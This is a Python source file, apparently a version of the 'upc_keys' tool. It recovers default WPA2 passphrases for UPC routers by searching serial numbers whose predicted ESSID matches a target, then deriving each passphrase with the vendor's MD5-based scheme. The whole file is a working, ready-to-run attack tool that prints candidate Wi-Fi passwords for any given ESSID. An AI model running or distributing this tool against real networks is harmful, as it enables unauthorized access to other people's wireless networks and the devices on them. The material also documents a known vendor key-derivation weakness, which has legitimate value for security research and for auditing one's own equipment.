"""WPA2 passphrase recovery for UPC%07d devices.

The default ESSID and WPA2 phrase of these routers are both derived from
the device serial number. The ESSID mapping is lossy, so every serial is
tried: those predicting the target ESSID (on either band) are run through
the vendor's MD5 based key derivation to produce a candidate phrase.
"""
import argparse
import functools
import string
import struct
import sys
from time import time
from multiprocessing import Pool, cpu_count
from cryptography.hazmat.primitives import hashes

MAGIC_24GHZ = 0xffd9da60
MAGIC_5GHZ = 0xff8d8f20
MAGIC0 = 0xb21642c9
MAGIC1 = 0x68de3af
MAGIC2 = 0x6b5fca6b

MAX0 = 9
MAX1 = 99
MAX2 = 9
MAX3 = 9999

MASK32 = 0xFFFFFFFF

SERIAL_PREFIX = 'SAAP'
ESSID_PREFIX = 'UPC'
DIGITS = {10: string.digits, 16: string.hexdigits}

BANDS = {
    '24': (MAGIC_24GHZ,),
    '5': (MAGIC_5GHZ,),
    'both': (MAGIC_24GHZ, MAGIC_5GHZ),
}


def md5_digest(data):
    digest = hashes.Hash(hashes.MD5())
    digest.update(data)
    return digest.finalize()


def format_serial(serial):
    return '%s%d%02d%d%04d' % ((SERIAL_PREFIX,) + tuple(serial))


def upc_generate_ssid(serial, magic):
    """Predict the numeric ESSID suffix broadcast by the device with this serial.

    All arithmetic wraps at 32 bits. The division by 10,000,000 is the
    firmware's multiply-shift reciprocal, including the correction applied
    when bit 31 of the sum is set, so results can reach 8 digits.
    """
    s0, s1, s2, s3 = serial
    a = (s1 * 10 + s2) & MASK32
    b = (s0 * 2500000 + a * 6800 + s3 + magic) & MASK32
    c = b - (((b * MAGIC2) >> 54) - (b >> 31)) * 10000000
    return c & MASK32


def mangle(words):
    """Scramble four little-endian 16-bit digest words into one 32-bit value."""
    w0, w1, w2, w3 = words
    a = ((w3 * MAGIC1) >> 40) - (w3 >> 31)
    b = ((w3 - a * 9999 + 1) * 11) & MASK32
    # word order 1, 2, 0 is how the firmware does it
    return (b * (w1 * 100 + w2 * 10 + w0)) & MASK32


def hash2pass(in_hash):
    out_pass = []
    for byte in in_hash[:8]:
        a = byte & 0x1f
        a -= ((a * MAGIC0) >> 36) * 23
        a = (a & 0xff) + 0x41

        # I, L and O never appear in a phrase
        if a >= ord('I'):
            a += 1
        if a >= ord('L'):
            a += 1
        if a >= ord('O'):
            a += 1

        out_pass.append(chr(a))
    return ''.join(out_pass)


def serial_to_passphrase(serial):
    serial_str = format_serial(serial)
    h1 = md5_digest(serial_str.encode('ascii'))

    w1 = mangle(struct.unpack('<4H', h1[:8]))
    w2 = mangle(struct.unpack('<4H', h1[8:16]))

    h2 = md5_digest(f'{w1:08X}{w2:08X}'.encode('ascii'))
    return serial_str, hash2pass(h2)


def search_shard(target, magics, s0):
    """Return the (serial, phrase) hits for every serial starting with digit s0."""
    hits = []
    for s1 in range(MAX1 + 1):
        for s2 in range(MAX2 + 1):
            for s3 in range(MAX3 + 1):
                serial = (s0, s1, s2, s3)
                for magic in magics:
                    if upc_generate_ssid(serial, magic) == target:
                        hits.append(serial_to_passphrase(serial))
                        break
    return hits


def iter_candidates(target, jobs=None, magics=BANDS['both']):
    """Yield (serial, phrase) pairs for target in serial order.

    The space is split on the leading serial digit; with more than one job
    the shards run on a process pool and are yielded as they complete, in
    order.
    """
    shard = functools.partial(search_shard, target, tuple(magics))
    shards = range(MAX0 + 1)

    if jobs == 1:
        for s0 in shards:
            yield from shard(s0)
        return

    with Pool(processes=jobs) as pool:
        for hits in pool.imap(shard, shards):
            yield from hits


def search(target, jobs=None, magics=BANDS['both']):
    return list(iter_candidates(target, jobs=jobs, magics=magics))


def parse_essid(text):
    """Turn 'UPC1234567' (or a bare number, '0x' hex allowed) into a target."""
    value = text.strip()
    if value[:len(ESSID_PREFIX)].upper() == ESSID_PREFIX:
        value = value[len(ESSID_PREFIX):]

    if value[:2].lower() == '0x':
        digits, base = value[2:], 16
    else:
        digits, base = value, 10
    # int() alone would also take signs, underscores and inner whitespace
    if not digits or not set(digits) <= set(DIGITS[base]):
        raise ValueError(f'not a UPC ESSID: {text!r}')

    target = int(digits, base)
    if target > MASK32:
        raise ValueError(f'ESSID number out of range: {text!r}')
    return target


def essid_arg(text):
    try:
        return parse_essid(text)
    except ValueError as e:
        raise argparse.ArgumentTypeError(str(e))


def banner():
    print(
        '\n'
        ' ================================================================\n'
        '  upc_keys // WPA2 passphrase recovery tool for UPC%07d devices \n'
        ' ================================================================\n'
        '  by blasty <peter@haxx.in>\n'
    )


def main(argv=None):
    parser = argparse.ArgumentParser(
        prog='upc_keys',
        description='WPA2 passphrase recovery tool for UPC%07d devices',
    )
    parser.add_argument('essid', type=essid_arg, help='target ESSID, e.g. UPC1234567')
    parser.add_argument('-b', '--band', choices=sorted(BANDS), default='both',
                        help='radio band(s) to match the ESSID against (default: both)')
    parser.add_argument('-j', '--jobs', type=int, default=cpu_count(),
                        help='worker processes (default: number of CPUs)')

    banner()
    args = parser.parse_args(argv)
    if args.jobs < 1:
        parser.error('--jobs must be at least 1')

    t0 = time()
    if args.jobs > 1:
        print(f'Spawning {args.jobs} processes...')

    cnt = 0
    for serial, phrase in iter_candidates(args.essid, jobs=args.jobs, magics=BANDS[args.band]):
        print(f"  -> WPA2 phrase for '{serial}' = '{phrase}'")
        cnt += 1

    print(f'\n  \x1b[1m=> found {cnt} possible WPA2 phrases, enjoy!\x1b[0m\n')
    print(f'Spent {time()-t0:.2f}s')
    return 0


if __name__ == '__main__':
    sys.exit(main())
